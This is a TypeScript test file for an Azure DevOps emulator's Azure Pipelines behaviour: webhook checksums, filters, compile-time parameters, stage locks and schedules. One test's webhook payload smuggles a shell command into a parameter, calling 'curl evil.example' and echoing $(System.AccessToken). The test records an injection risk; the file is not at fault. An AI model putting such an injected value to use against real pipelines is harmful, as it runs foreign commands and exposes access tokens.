import assert from 'node:assert/strict';
import { createHmac } from 'node:crypto';
import { AzureDevOpsEmulator } from '../emulator.js';
import type { IncomingWebhook } from '../incoming-webhooks.js';

const documentedBody = `{"resource":{"message":{"title":"Hello, world!","subtitle":"I'm using WebHooks!"}}}`;
const documentedChecksum = '750D33212D3AD4932CC390819050734831A0A94F';

const pipelineYaml = (filters = '', step = 'script: echo hello'): string => `
resources:
  webhooks:
    - webhook: Hook
      connection: IncomingWH
${filters}
steps:
  - ${step}
`;

describe('an incoming webhook of Azure Pipelines', () => {
  let ado: AzureDevOpsEmulator;
  beforeEach(async () => {
    ado = await AzureDevOpsEmulator.start();
    ado.addProject({ name: 'Shop' });
  });
  afterEach(() => ado.close());

  const connect = (webhook: Partial<IncomingWebhook> = {}): void => {
    ado.pipelines.addIncomingWebhook({ connection: 'IncomingWH', webhookName: 'FabHook', ...webhook });
  };
  const save = (yaml = pipelineYaml(), isDefaultBranch = true) =>
    ado.pipelines.save({ project: 'Shop', id: 7, name: 'sync', yaml, isDefaultBranch });
  const post = async (
    body: string,
    { headers = {}, name = 'FabHook', version = '?api-version=6.0-preview', method = 'POST' } = {},
  ): Promise<{ status: number; text: string }> => {
    const url = `${ado.collectionUrl}_apis/public/distributedtask/webhooks/${name}${version}`;
    const response = await fetch(url, { method, headers, ...(method === 'POST' ? { body } : {}) });
    return { status: response.status, text: await response.text() };
  };

  it('starts a run for anybody who knows its name, where it has no secret', async () => {
    connect();
    save();

    const answer = await post('{"any":"thing"}');

    assert.deepEqual(answer, { status: 200, text: '' });
    assert.deepEqual(
      ado.pipelines.runs.map(({ reason, state }) => [reason, state]),
      [['ResourceTrigger', 'waiting']],
    );
  });

  describe('with a secret and a header', () => {
    beforeEach(() => {
      connect({ secret: 'secret', header: 'X-WH-Checksum' });
      save();
    });

    for (const [name, checksum] of [
      ['as documented', documentedChecksum],
      ['in lower case', documentedChecksum.toLowerCase()],
      ['with the prefix of GitHub', `sha1=${documentedChecksum.toLowerCase()}`],
      ['with that prefix in upper case', `SHA1=${documentedChecksum}`],
    ] as const) {
      it(`takes a checksum ${name}`, async () => {
        const { status } = await post(documentedBody, { headers: { 'x-wh-checksum': checksum } });

        assert.deepEqual([status, ado.pipelines.runs.length], [200, 1]);
      });
    }

    const sha256 = createHmac('sha256', 'secret').update(documentedBody).digest('hex');
    for (const [name, headers, body] of [
      ['no checksum', {}, documentedBody],
      ['the checksum in another header', { 'x-hub-signature': documentedChecksum }, documentedBody],
      ['another body', { 'x-wh-checksum': documentedChecksum }, `${documentedBody} `],
      ['a checksum that is no hex', { 'x-wh-checksum': 'x'.repeat(40) }, documentedBody],
      ['the signature of Infisical', { 'x-wh-checksum': `t=1767225600000;${sha256}` }, documentedBody],
      ['an empty body', { 'x-wh-checksum': documentedChecksum }, ''],
    ] as const) {
      it(`refuses ${name} with 500`, async () => {
        const { status, text } = await post(body, { headers });

        assert.deepEqual([status, ado.pipelines.runs.length], [500, 0]);
        assert.equal((JSON.parse(text) as { typeKey: string }).typeKey, 'WebHookException');
      });
    }

    it('repeats the body where it refuses the checksum', async () => {
      const { text } = await post('{"canary":"Rw74"}', { headers: { 'x-wh-checksum': documentedChecksum } });

      assert.match(text, /Rw74/);
    });
  });

  it('checks nothing where there is a secret and no header', async () => {
    connect({ secret: 'secret' });
    save();

    const { status } = await post('{}');

    assert.deepEqual([status, ado.pipelines.runs.length], [200, 1]);
  });

  it('is not known before a pipeline of the default branch names it', async () => {
    connect();
    save(pipelineYaml(), false);

    const before = await post('{}');
    save();
    const after = await post('{}');

    assert.deepEqual([before.status, after.status], [500, 200]);
  });

  for (const [name, options, status] of [
    ['an unknown name', { name: 'other' }, 500],
    ['no api-version', { version: '' }, 400],
    ['a version that is no preview', { version: '?api-version=6.0' }, 400],
    ['a GET', { method: 'GET' }, 405],
  ] as const) {
    it(`answers ${name} with ${String(status)}`, async () => {
      connect();
      save();

      const answer = await post('{}', options);

      assert.deepEqual([answer.status, ado.pipelines.runs.length], [status, 0]);
    });
  }

  describe('with filters', () => {
    const filters = `      filters:
        - path: event
          value: secrets.modified
        - path: project.environment
          value: prod`;
    for (const [name, payload, runs] of [
      ['all match', { event: 'secrets.modified', project: { environment: 'prod' } }, 1],
      ['all match but for case', { event: 'Secrets.Modified', project: { environment: 'PROD' } }, 1],
      ['one differs', { event: 'secrets.modified', project: { environment: 'dev' } }, 0],
      ['one is missing', { event: 'secrets.modified' }, 0],
      ['one holds an object', { event: 'secrets.modified', project: { environment: { a: 1 } } }, 0],
      ['one holds more text', { event: 'secrets.modified', project: { environment: 'prod ' } }, 0],
    ] as const) {
      it(`starts ${String(runs)} where ${name}, and answers 200`, async () => {
        connect();
        save(pipelineYaml(filters));

        const { status } = await post(JSON.stringify(payload));

        assert.deepEqual([status, ado.pipelines.runs.length], [200, runs]);
      });
    }

    it('starts none for what is not JSON', async () => {
      connect();
      save(pipelineYaml(filters));

      const { status } = await post('event=secrets.modified');

      assert.deepEqual([status, ado.pipelines.runs.length], [200, 0]);
    });
  });

  describe('gives parameters at compile time', () => {
    const step = 'script: echo "${{ parameters.Hook.project.secretPath }}"';
    const scriptOf = (compiled: unknown): unknown =>
      (compiled as { steps: { script: string }[] }).steps[0]?.script;

    it('which become part of a script, whatever they are', async () => {
      connect();
      save(pipelineYaml('', step));

      await post(
        JSON.stringify({ project: { secretPath: '/"; curl evil.example; echo "$(System.AccessToken)' } }),
      );

      assert.equal(
        scriptOf(ado.pipelines.runs[0]?.compiled),
        'echo "/"; curl evil.example; echo "$(System.AccessToken)"',
      );
    });

    it('and starts no run where one is an object', async () => {
      connect();
      save(pipelineYaml('', step));

      const { status } = await post(JSON.stringify({ project: { secretPath: { a: 1 } } }));

      assert.deepEqual([status, ado.pipelines.runs.length], [200, 0]);
    });

    it('which are empty for a run that no webhook started', () => {
      connect();

      const run = ado.pipelines.run(save(pipelineYaml('', step)));

      assert.equal(scriptOf(run.compiled), 'echo ""');
    });
  });

  it('has no batch, and no trigger of its own', () => {
    assert.throws(() => save(pipelineYaml('      batch: true')), /Unexpected value 'batch'/);
    assert.throws(() => save(pipelineYaml('      trigger: true')), /Unexpected value 'trigger'/);
  });
});

describe('the lock of a stage', () => {
  let ado: AzureDevOpsEmulator;
  beforeEach(async () => {
    ado = await AzureDevOpsEmulator.start();
    ado.addProject({ name: 'Shop' });
  });
  afterEach(() => ado.close());

  /** The numbers of the runs that work, each after the one before has ended; three more came during the first. */
  const worked = (stage: string): number[] => {
    const yaml = `stages:\n  - ${stage}\n    jobs: []\n`;
    const pipeline = ado.pipelines.save({ project: 'Shop', id: 7, name: 'sync', yaml });
    ado.pipelines.run(pipeline);
    const order: number[] = [];
    for (let run = ado.pipelines.takeNext(); run !== undefined; run = ado.pipelines.takeNext()) {
      order.push(run.id);
      if (run.id === 1) {
        for (let more = 0; more < 3; more += 1) ado.pipelines.run(pipeline);
        if (pipeline.lock !== undefined) assert.equal(ado.pipelines.takeNext(), undefined);
      }
      ado.pipelines.finish(run);
    }
    return order;
  };

  it('lets the latest run in and cancels those between: runLatest', () => {
    assert.deepEqual(worked('stage: sync\n    lockBehavior: runLatest'), [1, 4]);
    assert.deepEqual(
      ado.pipelines.runs.map(({ state }) => state),
      ['done', 'canceled', 'canceled', 'done'],
    );
  });

  it('lets all in, one after the other: sequential', () => {
    assert.deepEqual(worked('stage: sync\n    lockBehavior: sequential'), [1, 2, 3, 4]);
  });

  it('is not there without a name of the stage', () => {
    assert.deepEqual(worked('lockBehavior: runLatest'), [1, 2, 3, 4]);
  });
});

describe('a schedule', () => {
  let ado: AzureDevOpsEmulator;
  beforeEach(async () => {
    ado = await AzureDevOpsEmulator.start();
    ado.addProject({ name: 'Shop' });
  });
  afterEach(() => ado.close());

  for (const [always, runs] of [
    ['true', 1],
    ['false', 0],
  ] as const) {
    it(`starts ${String(runs)} run where nobody has pushed: always ${always}`, () => {
      const yaml = `schedules:\n  - cron: '0 * * * *'\n    always: ${always}\nsteps: []\n`;
      ado.pipelines.save({ project: 'Shop', id: 7, name: 'sync', yaml });

      assert.deepEqual(
        ado.pipelines.runSchedules().map(({ reason }) => reason),
        Array<string>(runs).fill('Schedule'),
      );
    });
  }
});
